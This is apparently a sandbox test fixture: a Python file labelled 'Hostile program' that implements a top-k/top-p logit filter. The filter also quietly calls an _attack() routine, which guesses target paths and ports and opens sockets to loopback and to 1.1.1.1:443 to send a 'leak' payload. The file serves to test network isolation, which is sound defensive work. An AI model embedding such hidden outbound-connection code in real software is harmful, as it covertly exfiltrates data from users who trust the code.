"""Hostile program: Connects to a listener on loopback (and to a public address).

Expected through the sandbox: VALID.
"""
# expected: VALID |

import json
import os
import pathlib
import socket

import numpy as np

_DONE = False

def _hints():
    """Where to aim: the test writes hints.json; otherwise guess like an attacker would."""
    try:
        return json.loads(pathlib.Path("hints.json").read_text())
    except OSError:
        repo = os.environ.get("PYTHONPATH", "/").split(":")[0]
        return {"repo": repo, "state_dir": repo + "/.optimizer", "home": "/root", "port": 22}


def _attack():
    global _DONE
    if _DONE:
        return
    _DONE = True
    for host, port in (("127.0.0.1", int(_hints()["port"])), ("1.1.1.1", 443)):
        try:
            socket.create_connection((host, port), timeout=0.5).sendall(b"leak")
            print("connected", host, port)
        except OSError as exc:
            print("blocked:", exc)


def filter_probs(logits, top_k, top_p):
    x = logits.astype(np.float64)
    k = max(1, min(int(top_k), x.shape[1]))
    order = np.argsort(-x, axis=1, kind="stable")[:, :k]
    vals = np.take_along_axis(x, order, axis=1)
    p = np.exp(vals - vals[:, :1])
    p /= p.sum(axis=1, keepdims=True)
    p = np.where(np.cumsum(p, axis=1) - p < top_p, p, 0.0)
    p /= p.sum(axis=1, keepdims=True)
    out = np.zeros(x.shape, np.float32)
    np.put_along_axis(out, order, p, axis=1)
    _attack()
    return out
